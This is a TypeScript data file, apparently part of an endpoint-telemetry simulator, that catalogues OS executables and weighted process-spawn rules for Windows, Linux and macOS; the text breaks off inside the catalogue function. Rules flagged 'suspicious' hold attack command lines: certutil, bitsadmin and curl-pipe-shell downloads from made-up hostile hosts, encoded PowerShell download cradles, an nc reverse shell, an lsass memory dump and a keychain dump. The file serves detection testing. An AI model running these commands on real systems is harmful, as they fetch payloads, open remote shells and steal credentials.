/**
 * What runs on simulated devices: executable images per OS family and the rules for which process
 * starts which (a parent's file name → weighted child templates). Pure data plus small argument
 * builders; the process tree in telemetry.ts walks it.
 */
import type { Rng } from './prng.ts';
import type { SimOsFamily } from './fleet.ts';

/** How a signed image is signed, as MDE's InitiatingProcessSignerType reports it. */
export type SignerKind = 'OsVendor' | 'Microsoft' | 'ThirdParty' | 'Unsigned';

/** An executable. `path` may contain `{user}` (replaced by the account name) and is the full path. */
export interface ImageSpec {
  path: string;
  company: string;
  product: string;
  description: string;
  signer: SignerKind;
  size: number;
  /** Product version; `{os}` is replaced with the device's OS version. */
  version: string;
}

/** Who a spawned process runs as. */
export type RunAs = 'inherit' | 'system' | 'user' | 'localservice' | 'networkservice' | 'root';

/** Arguments a command-line builder may use. */
export interface ArgContext {
  rng: Rng;
  /** Account name of the user the process runs for. */
  user: string;
  host: string;
}

/** A child process a parent may start. */
export interface SpawnRule {
  /** Key into the catalogue's images. */
  image: string;
  /** Builds the command line after the executable. */
  args: (c: ArgContext) => string;
  weight: number;
  runAs?: RunAs;
  /** The child lives on and may start children of its own. */
  stays?: boolean;
  /** Runs elevated (High integrity, full token). */
  elevated?: boolean;
  /** A living-off-the-land / attack pattern; simulators emit these rarely. */
  suspicious?: boolean;
}

/** A process started at boot: its image, who runs it, and its parent in the boot tree. */
export interface BootProcess {
  image: string;
  args: string;
  runAs: RunAs;
  /** Index of the parent in the boot list, or -1. */
  parent: number;
  /** Start one per logged-on user. */
  perUser?: boolean;
}

/** Everything the simulator knows about one OS family. */
export interface OsCatalog {
  images: Readonly<Record<string, ImageSpec>>;
  boot: readonly BootProcess[];
  spawns: Readonly<Record<string, readonly SpawnRule[]>>;
  /** Image keys that typically open network connections / write files / load images. */
  networkers: readonly string[];
  fileWriters: readonly string[];
}

const S32 = 'C:\\Windows\\System32\\';
const MS = 'Microsoft Corporation';
const WINOS = 'Microsoft® Windows® Operating System';

function win(file: string, description: string, size: number, dir = S32): ImageSpec {
  return { path: dir + file, company: MS, product: WINOS, description, signer: 'OsVendor', size, version: '{os}' };
}

/** Base64 of a PowerShell script as UTF-16LE: what `powershell -enc` takes. */
export function encodePowerShell(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

const BAD_HOSTS = ['cdn-update-check.net', 'files-share.top', 'office365-login.cc', 'paste.bin-store.xyz', 'static-img-cdn.ru'];
const badUrl = (c: ArgContext, ext: string) => `http://${c.rng.pick(BAD_HOSTS)}/${c.rng.chars(8, 'abcdefghijklmnopqrstuvwxyz0123456789')}.${ext}`;

const ENCODED_SCRIPTS = [
  (c: ArgContext) => `IEX (New-Object Net.WebClient).DownloadString('${badUrl(c, 'ps1')}')`,
  () => `Get-WmiObject Win32_ComputerSystem | Select-Object Domain, Manufacturer; Get-LocalGroupMember Administrators`,
  (c: ArgContext) => `$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('${c.rng.chars(40, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/')}'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`,
  () => `Add-MpPreference -ExclusionPath 'C:\\Users\\Public'`,
];

const WINDOWS_IMAGES: Record<string, ImageSpec> = {
  'smss.exe': win('smss.exe', 'Windows Session Manager', 169_984),
  'csrss.exe': win('csrss.exe', 'Client Server Runtime Process', 17_768),
  'wininit.exe': win('wininit.exe', 'Windows Start-Up Application', 471_040),
  'services.exe': win('services.exe', 'Services and Controller app', 722_008),
  'lsass.exe': win('lsass.exe', 'Local Security Authority Process', 59_456),
  'svchost.exe': win('svchost.exe', 'Host Process for Windows Services', 57_360),
  'winlogon.exe': win('winlogon.exe', 'Windows Logon Application', 904_704),
  'userinit.exe': win('userinit.exe', 'Userinit Logon Application', 30_720),
  'explorer.exe': win('explorer.exe', 'Windows Explorer', 5_580_320, 'C:\\Windows\\'),
  'cmd.exe': win('cmd.exe', 'Windows Command Processor', 289_792),
  'powershell.exe': win('powershell.exe', 'Windows PowerShell', 452_608, `${S32}WindowsPowerShell\\v1.0\\`),
  'conhost.exe': win('conhost.exe', 'Console Window Host', 868_864),
  'taskhostw.exe': win('taskhostw.exe', 'Host Process for Windows Tasks', 101_664),
  'rundll32.exe': win('rundll32.exe', 'Windows host process (Rundll32)', 71_680),
  'regsvr32.exe': win('regsvr32.exe', 'Microsoft(C) Register Server', 25_088),
  'mshta.exe': win('mshta.exe', 'Microsoft (R) HTML Application host', 14_848),
  'certutil.exe': win('certutil.exe', 'CertUtil.exe', 1_557_504),
  'wmic.exe': win('WMIC.exe', 'WMI Commandline Utility', 568_320, `${S32}wbem\\`),
  'whoami.exe': win('whoami.exe', 'whoami - displays logged on user information', 73_728),
  'ipconfig.exe': win('ipconfig.exe', 'IP Configuration Utility', 35_840),
  'net.exe': win('net.exe', 'Net Command', 57_344),
  'net1.exe': win('net1.exe', 'Net Command', 171_520),
  'nltest.exe': win('nltest.exe', 'Microsoft® Logon Server Test Utility', 460_288),
  'ping.exe': win('PING.EXE', 'TCP/IP Ping Command', 22_528),
  'tasklist.exe': win('tasklist.exe', 'Lists the current running tasks', 88_064),
  'schtasks.exe': win('schtasks.exe', 'Task Scheduler Configuration Tool', 235_008),
  'reg.exe': win('reg.exe', 'Registry Console Tool', 77_824),
  'sc.exe': win('sc.exe', 'Service Control Manager Configuration Tool', 70_144),
  'bitsadmin.exe': win('bitsadmin.exe', 'BITS administration utility', 217_088),
  'notepad.exe': win('notepad.exe', 'Notepad', 201_216),
  'msiexec.exe': win('msiexec.exe', 'Windows® installer', 66_048),
  'wermgr.exe': win('wermgr.exe', 'Windows Problem Reporting', 220_672),
  'gpupdate.exe': win('gpupdate.exe', 'Microsoft® Windows Group Policy Update Utility', 31_232),
  'compattelrunner.exe': win('CompatTelRunner.exe', 'Microsoft Compatibility Telemetry', 175_616),
  'searchindexer.exe': win('SearchIndexer.exe', 'Microsoft Windows Search Indexer', 1_015_808),
  'mstsc.exe': win('mstsc.exe', 'Remote Desktop Connection', 1_378_304),
  'w3wp.exe': win('w3wp.exe', 'IIS Worker Process', 31_232, `${S32}inetsrv\\`),
  'csc.exe': { path: 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe', company: MS, product: 'Microsoft® .NET Framework', description: 'Visual C# Command Line Compiler', signer: 'Microsoft', size: 2_759_232, version: '4.8.9037.0' },
  'msmpeng.exe': { path: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24040.4-0\\MsMpEng.exe', company: MS, product: WINOS, description: 'Antimalware Service Executable', signer: 'Microsoft', size: 133_576, version: '4.18.24040.4' },
  'mpcmdrun.exe': { path: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24040.4-0\\MpCmdRun.exe', company: MS, product: WINOS, description: 'Microsoft Malware Protection Command Line Utility', signer: 'Microsoft', size: 1_569_912, version: '4.18.24040.4' },
  'mssense.exe': { path: 'C:\\Program Files\\Windows Defender Advanced Threat Protection\\MsSense.exe', company: MS, product: WINOS, description: 'Windows Defender Advanced Threat Protection Service Executable', signer: 'Microsoft', size: 4_316_584, version: '10.8760.{os}' },
  'tiworker.exe': win('TiWorker.exe', 'Windows Modules Installer Worker', 229_376, 'C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.4163_none_7e10e1e4d5a1e7b6\\'),
  'msedge.exe': { path: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', company: MS, product: 'Microsoft Edge', description: 'Microsoft Edge', signer: 'Microsoft', size: 4_099_504, version: '124.0.2478.80' },
  'chrome.exe': { path: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', company: 'Google LLC', product: 'Google Chrome', description: 'Google Chrome', signer: 'ThirdParty', size: 3_133_208, version: '125.0.6422.112' },
  'outlook.exe': { path: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', company: MS, product: 'Microsoft Outlook', description: 'Microsoft Outlook', signer: 'Microsoft', size: 43_412_384, version: '16.0.17531.20152' },
  'winword.exe': { path: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', company: MS, product: 'Microsoft Office', description: 'Microsoft Word', signer: 'Microsoft', size: 1_636_272, version: '16.0.17531.20152' },
  'excel.exe': { path: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', company: MS, product: 'Microsoft Office', description: 'Microsoft Excel', signer: 'Microsoft', size: 66_181_056, version: '16.0.17531.20152' },
  'ms-teams.exe': { path: 'C:\\Program Files\\WindowsApps\\MSTeams_24102.2223.2870.9480_x64__8wekyb3d8bbwe\\ms-teams.exe', company: MS, product: 'Microsoft Teams', description: 'Microsoft Teams', signer: 'Microsoft', size: 1_214_232, version: '24102.2223.2870.9480' },
  'onedrive.exe': { path: 'C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe', company: MS, product: 'Microsoft OneDrive', description: 'Microsoft OneDrive', signer: 'Microsoft', size: 3_462_984, version: '24.086.0428.0003' },
  'code.exe': { path: 'C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe', company: MS, product: 'Visual Studio Code', description: 'Visual Studio Code', signer: 'Microsoft', size: 165_453_312, version: '1.89.1' },
  'git.exe': { path: 'C:\\Program Files\\Git\\cmd\\git.exe', company: 'The Git Development Community', product: 'Git', description: 'Git for Windows', signer: 'ThirdParty', size: 48_032, version: '2.45.1.1' },
  'sqlservr.exe': { path: 'C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe', company: MS, product: 'Microsoft SQL Server', description: 'SQL Server Windows NT - 64 Bit', signer: 'Microsoft', size: 501_640, version: '2022.160.4125.3' },
  'update.exe': { path: 'C:\\Users\\Public\\update.exe', company: '', product: '', description: '', signer: 'Unsigned', size: 245_760, version: '' },
};

const rnd = (c: ArgContext, n: number) => c.rng.chars(n, 'abcdefghijklmnopqrstuvwxyz0123456789');

const WINDOWS_SPAWNS: Record<string, SpawnRule[]> = {
  'services.exe': [
    { image: 'svchost.exe', args: (c) => `-k ${c.rng.pick(['netsvcs -p -s Schedule', 'LocalServiceNetworkRestricted -p', 'NetworkService -p', 'wusvcs -p -s WaaSMedicSvc', 'LocalSystemNetworkRestricted -p -s SysMain'])}`, weight: 5, runAs: 'system', stays: true },
    { image: 'msiexec.exe', args: () => '/V', weight: 1, runAs: 'system' },
    { image: 'tiworker.exe', args: () => '-Embedding', weight: 1, runAs: 'system' },
  ],
  'svchost.exe': [
    { image: 'taskhostw.exe', args: () => '', weight: 3, runAs: 'inherit' },
    { image: 'mpcmdrun.exe', args: () => '-IdleTask -TaskName WdCacheMaintenance', weight: 2, runAs: 'system' },
    { image: 'wermgr.exe', args: (c) => `-upload -pid ${c.rng.int(1, 16000) * 4}`, weight: 1, runAs: 'system' },
    { image: 'compattelrunner.exe', args: () => '-m:appraiser.dll -f:DoScheduledTelemetryRun', weight: 1, runAs: 'system' },
    { image: 'gpupdate.exe', args: () => '/target:computer /force', weight: 1, runAs: 'system' },
    { image: 'powershell.exe', args: () => '-NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\Intune\\Scripts\\Detect-Compliance.ps1', weight: 1, runAs: 'system', stays: true },
    { image: 'schtasks.exe', args: (c) => `/create /sc minute /mo 30 /tn "\\Microsoft\\Windows\\${rnd(c, 6)}" /tr "C:\\Users\\Public\\update.exe" /f`, weight: 0.2, runAs: 'system', suspicious: true },
  ],
  'explorer.exe': [
    { image: 'msedge.exe', args: () => '--single-argument https://outlook.office.com/mail/', weight: 5, stays: true },
    { image: 'chrome.exe', args: () => '', weight: 3, stays: true },
    { image: 'outlook.exe', args: () => '', weight: 2, stays: true },
    { image: 'winword.exe', args: (c) => `/n "C:\\Users\\${c.user}\\Documents\\${c.rng.pick(['Quarterly Report', 'Meeting notes', 'Proposal v3', 'Budget 2024'])}.docx"`, weight: 2, stays: true },
    { image: 'excel.exe', args: (c) => `"C:\\Users\\${c.user}\\Documents\\${c.rng.pick(['forecast', 'inventory', 'expenses'])}.xlsx"`, weight: 2, stays: true },
    { image: 'ms-teams.exe', args: () => '--system-initiated', weight: 2, stays: true },
    { image: 'onedrive.exe', args: () => '/background', weight: 1, stays: true },
    { image: 'cmd.exe', args: () => '', weight: 3, stays: true },
    { image: 'powershell.exe', args: () => '', weight: 2, stays: true },
    { image: 'notepad.exe', args: (c) => `C:\\Users\\${c.user}\\Desktop\\todo.txt`, weight: 2 },
    { image: 'code.exe', args: () => '', weight: 1, stays: true },
    { image: 'mstsc.exe', args: (c) => `/v:${c.rng.pick(['app-prod-01', 'sql-prod-02', 'rds-prod-01'])}`, weight: 1 },
  ],
  'cmd.exe': [
    { image: 'conhost.exe', args: () => '0xffffffff -ForceV1', weight: 3 },
    { image: 'ipconfig.exe', args: () => '/all', weight: 2 },
    { image: 'whoami.exe', args: () => '/all', weight: 1 },
    { image: 'ping.exe', args: (c) => `-n 4 ${c.rng.pick(['8.8.8.8', 'dc01', 'intranet', 'github.com'])}`, weight: 2 },
    { image: 'git.exe', args: () => 'pull --ff-only', weight: 1 },
    { image: 'tasklist.exe', args: () => '/v', weight: 1 },
    { image: 'net.exe', args: (c) => c.rng.pick(['use', 'user /domain', 'group "Domain Admins" /domain', 'localgroup administrators']), weight: 1, stays: true },
    { image: 'nltest.exe', args: () => '/domain_trusts /all_trusts', weight: 0.2, suspicious: true },
    { image: 'certutil.exe', args: (c) => `-urlcache -split -f ${badUrl(c, 'exe')} C:\\Users\\Public\\update.exe`, weight: 0.4, suspicious: true },
    { image: 'bitsadmin.exe', args: (c) => `/transfer job${rnd(c, 4)} /download /priority high ${badUrl(c, 'exe')} C:\\Users\\Public\\update.exe`, weight: 0.2, suspicious: true },
    { image: 'update.exe', args: () => '', weight: 0.2, suspicious: true, stays: true },
    { image: 'powershell.exe', args: (c) => `-NoP -W Hidden -enc ${encodePowerShell(c.rng.pick(ENCODED_SCRIPTS)(c))}`, weight: 0.4, suspicious: true, stays: true },
  ],
  'powershell.exe': [
    { image: 'conhost.exe', args: () => '0xffffffff -ForceV1', weight: 3 },
    { image: 'whoami.exe', args: () => '', weight: 1 },
    { image: 'ipconfig.exe', args: () => '/displaydns', weight: 1 },
    { image: 'cmd.exe', args: (c) => `/c ${c.rng.pick(['dir %TEMP%', 'echo %USERDOMAIN%', 'systeminfo'])}`, weight: 1 },
    { image: 'net.exe', args: () => 'user', weight: 1, stays: true },
    { image: 'git.exe', args: () => 'status', weight: 1 },
    { image: 'reg.exe', args: () => 'query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', weight: 0.5 },
    { image: 'rundll32.exe', args: (c) => `C:\\Users\\${c.user}\\AppData\\Local\\Temp\\${rnd(c, 6)}.dll,DllRegisterServer`, weight: 0.3, suspicious: true },
    { image: 'regsvr32.exe', args: (c) => `/s /n /u /i:${badUrl(c, 'sct')} scrobj.dll`, weight: 0.3, suspicious: true },
    { image: 'certutil.exe', args: (c) => `-decode C:\\Users\\${c.user}\\AppData\\Local\\Temp\\${rnd(c, 5)}.txt C:\\Users\\Public\\update.exe`, weight: 0.2, suspicious: true },
    { image: 'wmic.exe', args: () => 'process call create "powershell -nop -w hidden -c Start-Sleep 5"', weight: 0.2, suspicious: true },
  ],
  'net.exe': [{ image: 'net1.exe', args: () => 'user', weight: 1 }],
  'msedge.exe': [
    { image: 'msedge.exe', args: (c) => `--type=renderer --lang=en-US --renderer-client-id=${c.rng.int(5, 80)}`, weight: 4 },
    { image: 'msedge.exe', args: () => '--type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US', weight: 2 },
  ],
  'chrome.exe': [
    { image: 'chrome.exe', args: (c) => `--type=renderer --lang=en-US --renderer-client-id=${c.rng.int(5, 80)}`, weight: 4 },
    { image: 'chrome.exe', args: () => '--type=gpu-process --gpu-preferences=WAAAAAAAAADgAAAMAAAAAAAAAAAAAAAAAABgAAAAAAA', weight: 1 },
  ],
  'outlook.exe': [
    { image: 'msedge.exe', args: (c) => `--single-argument https://${c.rng.pick(['contoso.sharepoint.com/sites/finance', 'aka.ms/mfasetup', 'teams.microsoft.com'])}`, weight: 3 },
    { image: 'winword.exe', args: (c) => `/n "C:\\Users\\${c.user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\${rnd(c, 8).toUpperCase()}\\Invoice_${c.rng.int(1000, 9999)}.docm"`, weight: 1, stays: true },
    { image: 'mshta.exe', args: (c) => `${badUrl(c, 'hta')}`, weight: 0.2, suspicious: true },
  ],
  'winword.exe': [
    { image: 'cmd.exe', args: (c) => `/c powershell -w hidden -enc ${encodePowerShell(c.rng.pick(ENCODED_SCRIPTS)(c))}`, weight: 0.3, suspicious: true, stays: true },
    { image: 'msedge.exe', args: () => '--single-argument https://learn.microsoft.com/', weight: 1 },
  ],
  'w3wp.exe': [
    { image: 'csc.exe', args: (c) => `/noconfig /fullpaths @"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\root\\${rnd(c, 8)}\\${rnd(c, 8)}.cmdline"`, weight: 2 },
    { image: 'cmd.exe', args: () => '/c whoami', weight: 0.2, suspicious: true },
  ],
  'sqlservr.exe': [{ image: 'cmd.exe', args: () => '/c "net user"', weight: 0.2, suspicious: true }],
  'update.exe': [
    { image: 'cmd.exe', args: () => '/c whoami /priv & net localgroup administrators', weight: 1 },
    { image: 'rundll32.exe', args: () => 'C:\\Windows\\System32\\comsvcs.dll, MiniDump 672 C:\\Users\\Public\\l.dmp full', weight: 0.5, elevated: true },
  ],
};

const WINDOWS_BOOT: BootProcess[] = [
  { image: 'smss.exe', args: '', runAs: 'system', parent: -1 },
  { image: 'wininit.exe', args: '', runAs: 'system', parent: 0 },
  { image: 'services.exe', args: '', runAs: 'system', parent: 1 },
  { image: 'lsass.exe', args: '', runAs: 'system', parent: 1 },
  { image: 'svchost.exe', args: '-k DcomLaunch -p', runAs: 'system', parent: 2 },
  { image: 'svchost.exe', args: '-k netsvcs -p -s Schedule', runAs: 'system', parent: 2 },
  { image: 'svchost.exe', args: '-k NetworkService -p -s Dnscache', runAs: 'networkservice', parent: 2 },
  { image: 'svchost.exe', args: '-k LocalService -p -s EventLog', runAs: 'localservice', parent: 2 },
  { image: 'msmpeng.exe', args: '', runAs: 'system', parent: 2 },
  { image: 'mssense.exe', args: '', runAs: 'system', parent: 2 },
  { image: 'searchindexer.exe', args: '/Embedding', runAs: 'system', parent: 2 },
  { image: 'winlogon.exe', args: '', runAs: 'system', parent: 0 },
  { image: 'explorer.exe', args: '', runAs: 'user', parent: 11, perUser: true },
];

const WINDOWS_SERVER_BOOT_EXTRA: BootProcess[] = [
  { image: 'w3wp.exe', args: '-ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll" -a \\\\.\\pipe\\iisipm', runAs: 'networkservice', parent: 2 },
  { image: 'sqlservr.exe', args: '-sMSSQLSERVER', runAs: 'networkservice', parent: 2 },
];

function lin(path: string, description: string, size: number, company = '', product = ''): ImageSpec {
  return { path, company, product, description, signer: 'OsVendor', size, version: '' };
}

const LINUX_IMAGES: Record<string, ImageSpec> = {
  systemd: lin('/usr/lib/systemd/systemd', 'systemd system and service manager', 92_840),
  sshd: lin('/usr/sbin/sshd', 'OpenSSH server', 921_664),
  cron: lin('/usr/sbin/cron', 'daemon to execute scheduled commands', 55_944),
  bash: lin('/usr/bin/bash', 'GNU Bourne-Again SHell', 1_396_520),
  sh: lin('/usr/bin/dash', 'command interpreter', 125_688),
  sudo: lin('/usr/bin/sudo', 'execute a command as another user', 232_416),
  curl: lin('/usr/bin/curl', 'transfer a URL', 260_328),
  wget: lin('/usr/bin/wget', 'network downloader', 547_096),
  python3: lin('/usr/bin/python3.10', 'Python interpreter', 5_913_032),
  apt: lin('/usr/bin/apt-get', 'APT package handling utility', 18_824),
  dpkg: lin('/usr/bin/dpkg', 'Debian package manager', 309_784),
  systemctl: lin('/usr/bin/systemctl', 'control the systemd system and service manager', 1_035_464),
  ls: lin('/usr/bin/ls', 'list directory contents', 138_208),
  cat: lin('/usr/bin/cat', 'concatenate files', 35_280),
  grep: lin('/usr/bin/grep', 'print lines that match patterns', 186_576),
  ps: lin('/usr/bin/ps', 'report a snapshot of the current processes', 137_688),
  git: lin('/usr/bin/git', 'the stupid content tracker', 3_946_808),
  docker: lin('/usr/bin/docker', 'Docker CLI', 34_455_016, 'Docker Inc.', 'Docker'),
  dockerd: lin('/usr/bin/dockerd', 'Docker daemon', 93_552_312, 'Docker Inc.', 'Docker'),
  nginx: lin('/usr/sbin/nginx', 'HTTP and reverse proxy server', 1_190_208),
  base64: lin('/usr/bin/base64', 'base64 encode/decode data', 39_424),
  nc: lin('/usr/bin/nc.openbsd', 'arbitrary TCP and UDP connections and listens', 39_352),
  crontab: lin('/usr/bin/crontab', 'maintain crontab files', 43_720),
  wdavdaemon: { path: '/opt/microsoft/mdatp/sbin/wdavdaemon', company: MS, product: 'Microsoft Defender for Endpoint', description: 'Microsoft Defender for Endpoint daemon', signer: 'Microsoft', size: 12_845_056, version: '101.24042.0002' },
  logrotate: lin('/usr/sbin/logrotate', 'rotates, compresses, and mails system logs', 96_016),
  kworker: lin('/tmp/.kworker', '', 1_867_776),
};

const LINUX_SPAWNS: Record<string, SpawnRule[]> = {
  systemd: [
    { image: 'cron', args: () => '-f -P', weight: 1, runAs: 'root', stays: true },
    { image: 'sh', args: () => '/usr/lib/apt/apt.systemd.daily update', weight: 1, runAs: 'root' },
    { image: 'logrotate', args: () => '/etc/logrotate.conf', weight: 1, runAs: 'root' },
  ],
  sshd: [{ image: 'bash', args: () => '', weight: 1, runAs: 'user', stays: true }],
  cron: [
    { image: 'sh', args: () => `-c /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1`, weight: 2, runAs: 'root' },
    { image: 'sh', args: () => '-c [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean', weight: 1, runAs: 'root' },
    { image: 'sh', args: (c) => `-c curl -fsSL ${badUrl(c, 'sh')} | sh`, weight: 0.1, runAs: 'root', suspicious: true },
  ],
  bash: [
    { image: 'ls', args: () => '-la', weight: 3 },
    { image: 'cat', args: (c) => c.rng.pick(['/etc/os-release', '/var/log/syslog', '/etc/hosts', 'config.yaml']), weight: 2 },
    { image: 'grep', args: () => '-ri error /var/log/nginx/', weight: 1 },
    { image: 'ps', args: () => 'aux', weight: 2 },
    { image: 'sudo', args: (c) => c.rng.pick(['systemctl restart nginx', 'apt-get update', 'tail -f /var/log/auth.log']), weight: 2, stays: true },
    { image: 'git', args: () => 'pull', weight: 1 },
    { image: 'docker', args: () => 'ps', weight: 1 },
    { image: 'python3', args: () => 'manage.py migrate', weight: 1, stays: true },
    { image: 'curl', args: () => '-s https://api.github.com/repos/nodejs/node/releases/latest', weight: 1 },
    { image: 'base64', args: () => '-d /tmp/.x', weight: 0.2, suspicious: true },
    { image: 'curl', args: (c) => `-s -o /tmp/.kworker ${badUrl(c, 'bin')}`, weight: 0.2, suspicious: true },
    { image: 'nc', args: (c) => `-e /bin/bash ${c.rng.int(45, 200)}.${c.rng.int(0, 255)}.${c.rng.int(0, 255)}.${c.rng.int(1, 254)} 4444`, weight: 0.1, suspicious: true },
    { image: 'crontab', args: () => '-l', weight: 0.5 },
  ],
  sh: [{ image: 'curl', args: () => '-s -o /dev/null https://archive.ubuntu.com/ubuntu/dists/jammy/InRelease', weight: 1 }],
  sudo: [
    { image: 'systemctl', args: () => 'restart nginx', weight: 2, runAs: 'root' },
    { image: 'apt', args: () => 'update', weight: 2, runAs: 'root', stays: true },
    { image: 'bash', args: () => '', weight: 1, runAs: 'root', stays: true },
  ],
  apt: [{ image: 'dpkg', args: () => '--configure -a', weight: 1, runAs: 'root' }],
  python3: [{ image: 'sh', args: () => '-c uname -a', weight: 1 }],
  kworker: [{ image: 'sh', args: () => '-c id; uname -a; cat /etc/passwd', weight: 1 }],
};

const LINUX_BOOT: BootProcess[] = [
  { image: 'systemd', args: '--system --deserialize 31', runAs: 'root', parent: -1 },
  { image: 'sshd', args: '-D', runAs: 'root', parent: 0 },
  { image: 'cron', args: '-f -P', runAs: 'root', parent: 0 },
  { image: 'wdavdaemon', args: '', runAs: 'root', parent: 0 },
  { image: 'dockerd', args: '-H fd:// --containerd=/run/containerd/containerd.sock', runAs: 'root', parent: 0 },
  { image: 'nginx', args: '-g daemon on; master_process on;', runAs: 'root', parent: 0 },
  { image: 'bash', args: '', runAs: 'user', parent: 1, perUser: true },
];

function mac(path: string, description: string, size: number, company = 'Apple Inc.', signer: SignerKind = 'OsVendor'): ImageSpec {
  return { path, company, product: company === 'Apple Inc.' ? 'macOS' : '', description, signer, size, version: '' };
}

const MACOS_IMAGES: Record<string, ImageSpec> = {
  launchd: mac('/sbin/launchd', 'launchd', 1_012_640),
  loginwindow: mac('/System/Library/CoreServices/loginwindow.app/Contents/MacOS/loginwindow', 'loginwindow', 1_904_592),
  terminal: mac('/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal', 'Terminal', 2_330_208),
  login: mac('/usr/bin/login', 'login', 190_736),
  zsh: mac('/bin/zsh', 'zsh', 1_361_008),
  sh: mac('/bin/sh', 'sh', 134_000),
  ls: mac('/bin/ls', 'ls', 154_624),
  curl: mac('/usr/bin/curl', 'curl', 202_496),
  git: mac('/usr/bin/git', 'git', 167_120),
  ssh: mac('/usr/bin/ssh', 'ssh', 1_591_968),
  sudo: mac('/usr/bin/sudo', 'sudo', 1_392_032),
  python3: mac('/usr/bin/python3', 'python3', 167_120),
  osascript: mac('/usr/bin/osascript', 'osascript', 154_960),
  security: mac('/usr/bin/security', 'security', 824_656),
  softwareupdate: mac('/usr/sbin/softwareupdate', 'softwareupdate', 394_928),
  chrome: mac('/Applications/Google Chrome.app/Contents/MacOS/Google Chrome', 'Google Chrome', 246_992, 'Google LLC', 'ThirdParty'),
  chromehelper: mac('/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Framework.framework/Versions/125.0.6422.113/Helpers/Google Chrome Helper (Renderer).app/Contents/MacOS/Google Chrome Helper (Renderer)', 'Google Chrome Helper (Renderer)', 203_008, 'Google LLC', 'ThirdParty'),
  outlook: mac('/Applications/Microsoft Outlook.app/Contents/MacOS/Microsoft Outlook', 'Microsoft Outlook', 152_453_120, MS, 'Microsoft'),
  wdavdaemon: mac('/Library/Application Support/Microsoft/Defender/wdavdaemon.app/Contents/MacOS/wdavdaemon', 'Microsoft Defender', 18_874_368, MS, 'Microsoft'),
  brew: mac('/opt/homebrew/bin/brew', 'Homebrew', 5_832, 'Homebrew', 'Unsigned'),
};

const MACOS_SPAWNS: Record<string, SpawnRule[]> = {
  launchd: [
    { image: 'softwareupdate', args: () => '--background', weight: 1, runAs: 'root' },
    { image: 'chrome', args: () => '', weight: 2, runAs: 'user', stays: true },
    { image: 'outlook', args: () => '', weight: 1, runAs: 'user', stays: true },
    { image: 'terminal', args: () => '', weight: 1, runAs: 'user', stays: true },
  ],
  terminal: [{ image: 'login', args: (c) => `-pf ${c.user}`, weight: 1, stays: true }],
  login: [{ image: 'zsh', args: () => '-zsh', weight: 1, stays: true }],
  zsh: [
    { image: 'ls', args: () => '-G', weight: 3 },
    { image: 'git', args: () => 'status', weight: 2 },
    { image: 'ssh', args: (c) => `${c.user}@jump-prod-01`, weight: 1 },
    { image: 'curl', args: () => '-sI https://www.apple.com', weight: 1 },
    { image: 'python3', args: () => '-m venv .venv', weight: 1 },
    { image: 'brew', args: () => 'upgrade', weight: 1 },
    { image: 'sudo', args: () => 'softwareupdate -l', weight: 1 },
    { image: 'osascript', args: () => `-e display dialog "macOS needs to access System Settings" default answer "" with hidden answer`, weight: 0.2, suspicious: true },
    { image: 'security', args: () => 'dump-keychain -d login.keychain-db', weight: 0.1, suspicious: true },
    { image: 'sh', args: (c) => `-c curl -fsSL ${badUrl(c, 'sh')} | sh`, weight: 0.1, suspicious: true },
  ],
  chrome: [{ image: 'chromehelper', args: (c) => `--type=renderer --lang=en-US --renderer-client-id=${c.rng.int(5, 80)}`, weight: 1 }],
  outlook: [{ image: 'chrome', args: () => 'https://contoso.sharepoint.com/sites/team', weight: 1 }],
};

const MACOS_BOOT: BootProcess[] = [
  { image: 'launchd', args: '', runAs: 'root', parent: -1 },
  { image: 'loginwindow', args: 'console', runAs: 'user', parent: 0, perUser: true },
  { image: 'wdavdaemon', args: '', runAs: 'root', parent: 0 },
  { image: 'terminal', args: '', runAs: 'user', parent: 0, perUser: true },
];

/** The catalogue of an OS family; servers add their server roles to the Windows boot tree. */
export function catalogFor(family: SimOsFamily, server: boolean): OsCatalog {
  if (family === 'Windows') {
    return {
      images: WINDOWS_IMAGES,
      boot: server ? [...WINDOWS_BOOT, ...WINDOWS_SERVER_BOOT_EXTRA] : WINDOWS_BOOT,
      spawns: WINDOWS_SPAWNS,
      networkers: ['msedge.exe', 'chrome.exe', 'outlook.exe', 'ms-teams.exe', 'onedrive.exe', 'svchost.exe', 'mssense.exe', 'msmpeng.exe', 'powershell.exe', 'git.exe', 'w3wp.exe', 'sqlservr.exe', 'update.exe', 'certutil.exe', 'mshta.exe', 'regsvr32.exe', 'bitsadmin.exe'],
      fileWriters: ['explorer.exe', 'msedge.exe', 'chrome.exe', 'outlook.exe', 'winword.exe', 'excel.exe', 'svchost.exe', 'tiworker.exe', 'msiexec.exe', 'powershell.exe', 'onedrive.exe', 'code.exe', 'certutil.exe', 'mpcmdrun.exe'],
    };
  }
  if (family === 'Linux') {
    return {
